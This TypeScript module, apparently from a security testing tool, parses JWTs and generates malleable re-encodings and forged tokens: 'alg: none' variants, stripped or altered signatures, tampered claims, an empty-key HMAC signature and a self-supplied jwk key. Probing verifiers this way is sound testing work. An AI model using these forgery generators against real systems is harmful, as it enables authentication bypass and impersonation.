import { createHmac, generateKeyPairSync, sign as signBytes } from 'node:crypto'
import { NotTried } from './probe.js'
import type { JsonObject } from './target.js'

/** A JWT taken apart, without verification. */
export type Jwt = Readonly<{
  header: JsonObject
  claims: JsonObject
  /** What the signature covers. */
  signingInput: string
  signature: string
}>

const compact = /^[\w-]+\.[\w-]+\.[\w-]*$/

/** Whether a text is a JWT in its compact form, with two JSON objects in it. */
export const isJwt = (text: string): boolean =>
  compact.test(text) && text.split('.', 2).every((segment) => objectOf(segment) !== undefined)

/** @throws NotTried for a token of another kind */
export function parseJwt(token: string): Jwt {
  const [head = '', body = '', signature = ''] = token.split('.')
  const [header, claims] = [objectOf(head), objectOf(body)]
  if (!compact.test(token) || header === undefined || claims === undefined)
    throw new NotTried('needs tokens that are signed JWTs')
  return { header, claims, signingInput: `${head}.${body}`, signature }
}

function objectOf(segment: string): JsonObject | undefined {
  try {
    const parsed: unknown = JSON.parse(Buffer.from(segment, 'base64url').toString('utf8'))
    const isObject = typeof parsed === 'object' && parsed !== null && !Array.isArray(parsed)
    return isObject ? (parsed as JsonObject) : undefined
  } catch {
    return undefined
  }
}

const encode = (value: JsonObject) => Buffer.from(JSON.stringify(value)).toString('base64url')

/** A text that stands for another token, and what was done to that. */
export type Variant = Readonly<{ how: string; text: string }>

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/**
 * Other texts of one token. Its signature covers none of the differences, so lenient verifiers
 * accept them: decoders of base64url pass over unused bits, padding and characters that are none of
 * theirs (RFC 4648 §3.3, §3.5), and an ECDSA signature (r, s) is as good as (r, n − s).
 */
export function respellings(token: string): Variant[] {
  const { header, signingInput, signature } = parseJwt(token)
  const of = (how: string, signature: string | undefined): Variant[] =>
    signature === undefined ? [] : [{ how, text: `${signingInput}.${signature}` }]
  const padding = '='.repeat((4 - (signature.length % 4)) % 4)
  const inBase64 = signature.replaceAll('-', '+').replaceAll('_', '/')
  return [
    ...of('other unused bits in the signature', withOtherSpareBits(signature)),
    ...of('padding after the signature', padding === '' ? undefined : signature + padding),
    ...of('the alphabet of base64', inBase64 === signature ? undefined : inBase64),
    ...of('a foreign character in the signature', `${signature.slice(0, 4)}~${signature.slice(4)}`),
    ...of('a foreign character after the signature', `${signature}!`),
    ...of('a fourth part', `${signature}.`),
    ...of('the other ECDSA signature', mirrored(String(header['alg']), signature)),
    { how: 'a blank before the token', text: ` ${token}` },
    { how: 'quotation marks around the token', text: `"${token}"` },
  ]
}

/** `undefined` when the last character has no unused bits. */
function withOtherSpareBits(signature: string): string | undefined {
  const spare = signature.length % 4
  if (spare !== 2 && spare !== 3) return undefined
  const last = alphabet.indexOf(signature.at(-1) ?? '')
  return signature.slice(0, -1) + (alphabet[last ^ 1] ?? '')
}

/** The orders of the groups of NIST's curves (SP 800-186 §3.2.1). */
const orders: Readonly<Record<string, bigint>> = {
  ES256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
  ES384:
    0xffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973n,
  ES512:
    0x01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409n,
}

/** The signature (r, n − s) of ECDSA; `undefined` for other algorithms. */
function mirrored(algorithm: string, signature: string): string | undefined {
  const order = orders[algorithm]
  if (order === undefined) return undefined
  const bytes = Buffer.from(signature, 'base64url')
  const half = bytes.length / 2
  const s = BigInt(`0x${bytes.subarray(half).toString('hex')}`)
  const other = (order - s).toString(16).padStart(half * 2, '0')
  return Buffer.concat([bytes.subarray(0, half), Buffer.from(other, 'hex')]).toString('base64url')
}

/** Tokens with the claims of a genuine one that its issuer never signed (RFC 8725 §2.1, §2.6). */
export function forgeries(token: string): Variant[] {
  const { header, claims, signingInput, signature } = parseJwt(token)
  const body = encode(claims)
  const unsigned = (alg: string) => `${encode({ ...header, alg })}.${body}.`
  const emptyKey = `${encode({ ...header, alg: 'HS256' })}.${body}`
  const flipped = alphabet[alphabet.indexOf(signature[0] ?? 'A') ^ 32] ?? 'A'
  return [
    { how: '`alg` none', text: unsigned('none') },
    { how: '`alg` None', text: unsigned('None') },
    { how: '`alg` NONE', text: unsigned('NONE') },
    { how: 'no signature', text: `${signingInput}.` },
    { how: 'a changed signature', text: `${signingInput}.${flipped}${signature.slice(1)}` },
    {
      how: 'changed claims',
      text: `${signingInput.split('.')[0]}.${encode({ ...claims, doctor: true })}.${signature}`,
    },
    {
      how: 'an empty HMAC key',
      text: `${emptyKey}.${createHmac('sha256', '').update(emptyKey).digest('base64url')}`,
    },
    { how: 'a key of its own in `jwk`', text: signedByOwnKey(header, body) },
  ]
}

/** A token that brings the key for its signature (RFC 7515 §4.1.3). */
function signedByOwnKey(header: JsonObject, body: string): string {
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const jwk = publicKey.export({ format: 'jwk' })
  const input = `${encode({ ...header, alg: 'ES256', jwk })}.${body}`
  const key = { key: privateKey, dsaEncoding: 'ieee-p1363' } as const
  return `${input}.${signBytes('sha256', Buffer.from(input), key).toString('base64url')}`
}
